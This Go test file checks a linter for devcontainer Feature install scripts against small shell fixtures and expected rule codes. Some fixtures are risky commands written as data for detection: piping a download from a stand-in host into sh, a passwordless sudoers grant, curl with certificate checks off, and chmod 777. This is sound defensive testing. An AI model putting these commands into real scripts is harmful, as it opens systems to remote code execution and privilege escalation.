package lint_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/org/claude-sandbox/devcontainer"
)

// The program of a Feature is read as root's step of a build, and as its shell reads it.
func TestInstallScript(t *testing.T) {
	for name, c := range map[string]struct{ script, want string }{
		"download into a shell":        {"#!/bin/sh\nset -e\ncurl -fsSL http://x.example/i.sh | sh\n", "SBX705 3:1"},
		"sudo for all":                 {"#!/bin/sh\necho 'dev ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/dev\n", "SBX704 2:6"},
		"certificates unchecked":       {"#!/bin/sh\nf() {\n  curl -k https://x.example -o /a\n}\nf\n", "SBX720 3:8"},
		"anybody may write":            {"#!/bin/sh\nchmod -R 777 /opt\n", "SBX717 2:10"},
		"an install that asks":         {"#!/bin/sh\napt-get update && apt-get install git\n", "SBX724 2:19"},
		"no end of an if":              {"#!/bin/sh\nif true; then\n", "SBX913 2:10"},
		"CR LF":                        {"#!/bin/sh\r\ntrue\r\n", "SBX913 1:1"},
		"bash for sh":                  {"#!/bin/sh\na=(1 2)\n", "SBX913 2:3"},
		"bash by its first line":       {"#!/usr/bin/env -S bash -e\na=(1 2)\n", ""},
		"bash by itself":               {"#!/bin/sh\n[ -n \"$BASH\" ] || exec bash \"$0\"\na=(1 2)\n", ""},
		"Python":                       {"#!/usr/bin/env python3\nif True:\n    print('|')\n", ""},
		"none":                         {"", ""},
		"a text that nests too deeply": {"#!/bin/sh\n" + strings.Repeat("$(", 100_000), ""},
	} {
		t.Run(name, func(t *testing.T) {
			var got []string
			for _, f := range judge(t, devcontainer.Memory{"src/a/install.sh": c.script,
				"src/a/devcontainer-feature.json": `{"id": "a", "version": "1.0.0"}`}) {
				if f.Rule != "SBX716" && f.Rule != "SBX722" && f.Rule != "SBX723" {
					got = append(got, fmt.Sprintf("%s %d:%d", f.Rule, f.Line, f.Column))
				}
			}
			if strings.Join(got, ", ") != c.want {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
}
